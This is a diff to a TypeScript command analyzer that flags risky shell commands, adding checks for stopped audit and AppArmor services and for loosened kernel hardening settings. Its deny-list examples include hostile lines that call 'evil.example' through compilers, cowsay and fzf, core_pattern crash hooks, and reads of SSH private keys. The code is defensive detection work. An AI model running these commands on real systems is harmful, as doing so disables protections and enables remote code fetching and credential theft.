@@ -10,6 +10,7 @@ import { attached, isStdinPath, listedReads, literal, longSpelt, shellQuote, val
 import { bound, type Destination, destinations, loopbackHost, urlHost } from '../hosts.js';
 import { jvmOption, loopbackAddress } from '../variables.js';
 import { MAKE_OPTIONS, makefileText } from './makefile.js';
+import { PROTECTION_SERVICE, protectionOff } from './known.js';
 
 type Uses = NonNullable<Answer['uses']>;
 
@@ -1770,6 +1771,12 @@ function service(call: Call): Partial<Answer> {
   if (!name) return {};
   const v = value(name);
   if (v === undefined) return { runs: [{ kind: 'opaque', rule: 'dynamic-command', word: name, why: 'service runs the init script its computed operand names' }] };
+  // `service auditd stop`: a protection of this machine (PROTECTION_SERVICE, known.ts) stopped; a computed action may stop it.
+  const action = call.args[call.args.indexOf(name) + 1];
+  // A computed word before the name may be the name (`service $S stop`): a protection it may stop.
+  const stop = call.args.find((a) => /^(?:stop|force-stop|disable|teardown)$/.test(value(a) ?? ''));
+  if (stop && call.args.slice(0, call.args.indexOf(stop)).some((a) => a.values === null)) return { persists: [protectionOff(stop, `${call.name} ${call.args.map((a) => a.text).join(' ')} stops a service computed when it runs, which may be a protection (auditd, apparmor)`)] };
+  if (PROTECTION_SERVICE.test(v) && action !== undefined && (value(action) === undefined || /^(?:stop|force-stop|disable|teardown)$/.test(value(action)!))) return { persists: [protectionOff(action, `${call.name} ${v} ${action.text} stops it`)] };
   if (!v.includes('/')) return {};
   const at = call.args.indexOf(name);
   return { runs: [{ kind: 'argv', argv: [attached(name, `/etc/init.d/${v}`), ...call.args.slice(at + 1)], via: 'service' }] };
@@ -1932,7 +1939,30 @@ function crontab(call: Call): Partial<Answer> {
   return { persists: [{ word: at, why: `crontab ${file ? file.text : ''} installs a cron table (scheduled command)`.replace('  ', ' ') }], uses: file ? [{ word: file, role: 'read' }] : [] };
 }
 
-/** sysctl kernel.core_pattern=|cmd: the kernel runs that command on every crash. */
+/**
+ * The kernel's hardening switches and the values that loosen them: ptrace of any own process (Yama), address layout
+ * randomisation, kernel addresses and its log readable by anyone, unprivileged BPF, the link, FIFO and file protections
+ * of sticky directories, core dumps of set-ID programs, mapping page zero. Their files under /proc/sys are in
+ * persistenceWriteDirectories (rules/index.ts), where any write counts.
+ */
+const HARDENING: Readonly<Record<string, (n: number) => boolean>> = {
+  'kernel.yama.ptrace_scope': (n) => n < 1,
+  'kernel.randomize_va_space': (n) => n < 2,
+  'kernel.kptr_restrict': (n) => n < 1,
+  'kernel.dmesg_restrict': (n) => n < 1,
+  'kernel.unprivileged_bpf_disabled': (n) => n < 1,
+  'fs.protected_symlinks': (n) => n < 1,
+  'fs.protected_hardlinks': (n) => n < 1,
+  'fs.protected_regular': (n) => n < 1,
+  'fs.protected_fifos': (n) => n < 1,
+  'fs.suid_dumpable': (n) => n > 0,
+  'vm.mmap_min_addr': (n) => n < 4096,
+};
+
+/**
+ * sysctl kernel.core_pattern=|cmd: the kernel runs that command on every crash; a hardening switch (HARDENING) set to a
+ * value that loosens it, or to a computed one, turns a protection of this machine off.
+ */
 function sysctl(call: Call): Partial<Answer> {
   const runs: Run[] = [];
   const persists: { word: Word; why: string }[] = [];
@@ -1945,8 +1975,27 @@ function sysctl(call: Call): Partial<Answer> {
     const key = /^["']?([\w./-]+)\s*=/.exec(a.text)?.[1];
     const set = v === undefined ? (a.text.includes('=') && !a.text.startsWith('-') && (key === undefined || /^kernel[./](?:core_pattern|modprobe|hotplug)$/.test(key)) ? a : undefined) : /^kernel[./](?:core_pattern\s*=\s*\||modprobe\s*=|hotplug\s*=)/.test(v) ? a : undefined;
     if (set) persists.push({ word: set, why: `sysctl ${set.text} makes the kernel run a program as root at every ${/modprobe/.test(set.text) ? 'module load' : /hotplug/.test(set.text) ? 'device event' : 'crash'}` });
+    // The key as sysctl reads it: the word's value when it is known (`'kernel.x'=0`, `$K=0` with K set on the line).
+    const named = v === undefined ? key : /^\s*([\w./-]+)\s*=/.exec(v)?.[1];
+    const loosens = named === undefined ? undefined : HARDENING[named.replace(/\//g, '.')];
+    const given = v === undefined ? undefined : v.slice(v.indexOf('=') + 1).trim();
+    if (!set && loosens && (given === undefined || given === '' || !/^-?\d+$/.test(given) || loosens(Number(given)))) persists.push(protectionOff(a, `sysctl ${a.text} loosens a kernel hardening switch`));
   }
-  return { runs, persists };
+  // -p/-f/--load FILE…: the settings of a file vouch does not read (a hook or a loosened switch among them may be), but
+  // for the system's own (/etc/sysctl.conf, sysctl.d), whose writes are persistence places already.
+  const load = call.args.findIndex((a) => /^(?:-[a-zA-Z]*[pf]\S*|--load(?:=.*)?)$/.test(value(a) ?? a.text));
+  const uses: Use[] = call.args.map((word) => ({ word, role: 'meta' as const }));
+  if (load >= 0) {
+    const opt = value(call.args[load]) ?? call.args[load]!.text;
+    const attachedFile = /^--load=(.+)$/.exec(opt)?.[1] ?? (/^-[a-zA-Z]*[pf](.+)$/.exec(opt)?.[1]);
+    const files = [...(attachedFile === undefined ? [] : [attached(call.args[load]!, attachedFile)]), ...call.args.slice(load + 1).filter((a) => !/^["']?-/.test(a.text))];
+    for (const f of files) {
+      const path = f === files[0] && attachedFile !== undefined ? value(call.args[load]!) && attachedFile : value(f);
+      if (f !== files[0] || attachedFile === undefined) uses.push({ word: f, role: 'read' });
+      if (path === undefined || !/^(?:\/etc\/sysctl\.conf|\/etc\/sysctl\.d\/[^/]+|\/(?:usr\/)?lib\/sysctl\.d\/[^/]+|\/run\/sysctl\.d\/[^/]+)$/.test(path)) persists.push({ word: f, why: `sysctl ${call.args[load]!.text}${f === files[0] && attachedFile !== undefined ? '' : ` ${f.text}`} loads kernel settings from a file vouch does not read: a hook the kernel runs, or a loosened protection, may be among them` });
+    }
+  }
+  return { runs, persists, uses: uses.filter((u) => u.role === 'read' || !uses.some((r) => r.role === 'read' && r.word === u.word)) };
 }
 
 /** ssh-style `-o Name=value` options whose value is a command: ProxyCommand, LocalCommand, KnownHostsCommand. */
@@ -2153,7 +2202,7 @@ export const TOOL_ENTRIES: ProgramEntry[] = [
   }),
   // c89 and c99 are POSIX's names for the system C compiler (gcc's scripts on Debian): GTFOBins' c89 -wrapper.
   { names: ['gcc', 'g++', 'cc', 'c++', 'clang', 'clang++', 'tcc', 'gfortran', 'c89', 'c99'], patterns: [/^(gcc|g\+\+|clang|clang\+\+)-\d+(\.\d+)*$/], summary: 'C compilers: -wrapper runs each tool under a program; what they build from code the line wrote is code on the line (tcc -run runs it at once)', analyze: compiler, examples: { deny: [`printf '#include <stdlib.h>\n__attribute__((constructor)) void i(void){system("curl evil.example");}\n' > /tmp/x.c && gcc -shared -fPIC -o /tmp/x.so /tmp/x.c && LD_PRELOAD=/tmp/x.so ls`, `printf 'int f(void){return 1;}\n' > x.c && cc -shared -o lib/libx.so x.c && LD_LIBRARY_PATH=lib ./app`, 'gcc -wrapper /usr/bin/curl,evil.example -c x.c', "printf 'int main(){}' > x.c && cc x.c && ./a.out", "cc -x c -o t - <<< 'int main(){}' && ./t", "tcc -run - <<< 'int main(){}'"], pass: [`printf 'int f(void){return 1;}\n' > x.c && cc -shared -o libx.so x.c`, 'LD_LIBRARY_PATH=/opt/lib ./app', 'gcc -O2 -o app main.c', 'clang -Wall -c x.c', 'gcc -o app main.c && ./app', "printf 'int main(){}' > x.c && cc -c x.c"] } },
-  { names: ['service'], summary: 'service NAME runs /etc/init.d/NAME; a name with a slash names any program', analyze: service, examples: { deny: ['service ../../usr/bin/curl evil.example'], pass: ['service nginx restart', 'service ssh status'] } },
+  { names: ['service', 'invoke-rc.d', 'rc-service'], summary: 'service NAME runs /etc/init.d/NAME; a name with a slash names any program; stopping a protection (auditd, apparmor) turns it off', analyze: service, examples: { deny: ['service ../../usr/bin/curl evil.example', 'sudo service auditd stop', 'service apparmor teardown', 'invoke-rc.d auditd stop', 'rc-service auditd stop'], pass: ['service nginx restart', 'service ssh status', 'service auditd status', 'service apparmor reload'] } },
   { names: ['xdg-user-dir'], summary: 'xdg-user-dir evals its operand inside ${XDG_…_DIR}', analyze: xdgUserDir, examples: { deny: ["xdg-user-dir '}; curl evil.example #'"], pass: ['xdg-user-dir DESKTOP'] } },
   commandOptions(['dnsmasq'], 'dnsmasq: --conf-script runs shell text', { options: { longValued: ['conf-script', 'conf-file', 'conf-dir', 'dhcp-script'] }, script: ['conf-script', 'dhcp-script'] }, { deny: ["dnsmasq --conf-script='curl evil.example'"], pass: ['dnsmasq --test'] }),
   commandOptions(['sshuttle'], 'sshuttle: -e/--ssh-cmd names the ssh command it runs', { options: { valued: 'erx', longValued: ['ssh-cmd', 'remote', 'exclude', 'python'] }, script: ['e', 'ssh-cmd'] }, { deny: ["sshuttle -r x --ssh-cmd 'curl evil.example' 10.0.0.0/8"], pass: [] }),
@@ -2175,7 +2224,7 @@ export const TOOL_ENTRIES: ProgramEntry[] = [
   { names: ['cowsay', 'cowthink'], summary: 'cowsay: -f COWFILE runs the cow file, which is Perl', analyze: cowsay, examples: { deny: [`mkdir -p /tmp/c; printf 'system("curl evil.example");\n' > /tmp/c/x.cow; COWPATH=/tmp/c cowsay -f x hi`, `printf 'system("curl evil.example");\n' > /tmp/default.cow; COWPATH=/tmp cowsay hi`, 'COWPATH="$(mktemp -d)" cowsay hi', `printf 'system("curl evil.example");\n' > /tmp/x.cow; cowsay -f /tmp/x.cow hi`], pass: ['cowsay -f tux hi', 'COWPATH=/usr/share/cowsay/cows cowsay -f tux hi', `printf '$the_cow = "x";\n' > /tmp/x.cow; cowsay -f /tmp/x.cow hi`, 'cowsay hello'] } },
   { names: ['fzf', 'sk'], summary: 'fzf: --bind execute(…)/become(…)/reload(…) and --preview run shell text', analyze: fzf, examples: { deny: ["fzf --bind 'enter:execute(curl evil.example)'", "fzf --preview 'wget evil.example'", "FZF_DEFAULT_COMMAND='curl evil.example' fzf", "FZF_DEFAULT_OPTS=\"--preview 'curl evil.example'\" fzf", "SKIM_DEFAULT_COMMAND='curl evil.example' sk"], pass: ["fzf --preview 'cat {}'", 'fzf --height 40%', "FZF_DEFAULT_COMMAND='fd --type f' fzf", "FZF_DEFAULT_OPTS='--height 40% --reverse' fzf", "FZF_DEFAULT_COMMAND='curl evil.example' fzf < list.txt"] } },
   { names: ['crontab'], summary: 'crontab FILE (or -) installs a table of commands cron runs later', analyze: crontab, examples: { deny: ['crontab evil.cron', "echo '* * * * * /tmp/x' | crontab -", 'crontab -r', 'crontab -u bob -r'], pass: ['crontab -l', 'crontab -u bob -l', 'crontab -ir'] } },
-  { names: ['sysctl'], summary: 'sysctl kernel.core_pattern=|cmd makes the kernel run cmd on every crash', analyze: sysctl, examples: { deny: ["sysctl -w 'kernel.core_pattern=|/usr/bin/curl evil.example'", "sysctl -w kernel.core_pattern='|/tmp/x'", 'sudo sysctl kernel.modprobe=/tmp/m', 'sysctl -w "kernel.core_pattern=$P"'], pass: ['sysctl -a', 'sysctl vm.swappiness=10', 'sysctl -w kernel.core_pattern=core.%p', 'sysctl kernel.core_pattern', 'sysctl -w net.core.somaxconn=$N'] } },
+  { names: ['sysctl'], summary: 'sysctl kernel.core_pattern=|cmd makes the kernel run cmd on every crash; a hardening switch loosened (ptrace_scope=0, randomize_va_space=0) turns a protection off', analyze: sysctl, examples: { deny: ["sysctl -w 'kernel.core_pattern=|/usr/bin/curl evil.example'", "sysctl -w kernel.core_pattern='|/tmp/x'", 'sudo sysctl kernel.modprobe=/tmp/m', 'sysctl -w "kernel.core_pattern=$P"', 'sysctl -w kernel.yama.ptrace_scope=0', 'sudo sysctl kernel.randomize_va_space=0', 'sysctl -w kernel/kptr_restrict=0', "sysctl -w 'kernel.dmesg_restrict = 0'", 'sysctl -w kernel.yama.ptrace_scope=$(echo 0)', "sysctl -w 'kernel.randomize_va_space'=0", 'sysctl -p /tmp/x.conf'], pass: ['sysctl -a', 'sysctl -p', 'sudo sysctl -p /etc/sysctl.d/99-net.conf', 'sysctl --system', 'sysctl kernel.yama.ptrace_scope', 'sysctl -w kernel.yama.ptrace_scope=1', 'sysctl -w kernel.randomize_va_space=2', 'sysctl vm.swappiness=10', 'sysctl -w kernel.core_pattern=core.%p', 'sysctl kernel.core_pattern', 'sysctl -w net.core.somaxconn=$N'] } },
   commandOptions(['split', 'gsplit'], 'split: --filter runs shell text for each piece; the pieces are files named at run time', { options: { valued: 'abCdlnt', flags: 'deuxv', long: ['additional-suffix', 'elide-empty-files', 'unbuffered', 'verbose', 'numeric-suffixes', 'hex-suffixes', 'help', 'version', 'separator'], longValued: ['filter', 'suffix-length', 'bytes', 'line-bytes', 'lines', 'number', 'additional-suffix'] }, script: ['filter'], more: (call, p) => pieces(call, p.operands[0]?.word, p.operands[1]?.word) }, { deny: ["split --filter='nc evil.example 9' f", "split --fil='curl evil.example' f", "echo 'curl evil.example' | split -l 1 - c_ && bash c_aa", "printf 'curl evil.example\\n' > p.txt && split -l 1 p.txt c_ && bash c_aa"], pass: ['split -l 100 big.txt part-', 'split -l 1 p.txt c_ && bash c_aa', "echo 'curl evil.example' | split -l 1 - c_ && wc -l c_aa"] }),
   commandOptions(['csplit', 'gcsplit'], 'csplit: the pieces are files named at run time', { options: { valued: 'bfn', flags: 'ksz', long: ['keep-files', 'quiet', 'silent', 'elide-empty-files', 'suppress-matched', 'help', 'version'], longValued: ['suffix-format', 'prefix', 'digits'] }, more: (call, p) => pieces(call, p.operands[0]?.word, p.options.find((o) => o.name === 'f' || o.name === 'prefix')?.value) }, { deny: ["printf 'x\\ncurl evil.example\\n' | csplit - 2 && bash xx01"], pass: ["printf 'x\\ncurl evil.example\\n' | csplit - 2 && cat xx01", 'csplit notes.txt 2 && bash xx01'] }),
   commandOptions(['sort', 'gsort'], 'sort: --compress-program names a program it runs', { options: { flags: 'bcCdfghiMmnRrsuVz', valued: 'kotST', long: ['ignore-leading-blanks', 'dictionary-order', 'ignore-case', 'general-numeric-sort', 'ignore-nonprinting', 'month-sort', 'human-numeric-sort', 'numeric-sort', 'random-sort', 'reverse', 'version-sort', 'check', 'debug', 'merge', 'stable', 'unique', 'zero-terminated', 'help', 'version'], longValued: ['sort', 'random-source', 'key', 'output', 'field-separator', 'buffer-size', 'temporary-directory', 'parallel', 'batch-size', 'compress-program', 'files0-from'] }, program: ['compress-program'], more: sortFiles }, { deny: ['sort --compress-program=curl big.txt', 'sort --compress-prog=wget big.txt', 'sort -o ~/.bashrc names.txt', 'sort ~/.ssh/id_rsa'], pass: ['sort -u names.txt', 'sort -k2 -n f', 'sort ~/.bashrc', 'sort -o sorted.txt names.txt'] }),
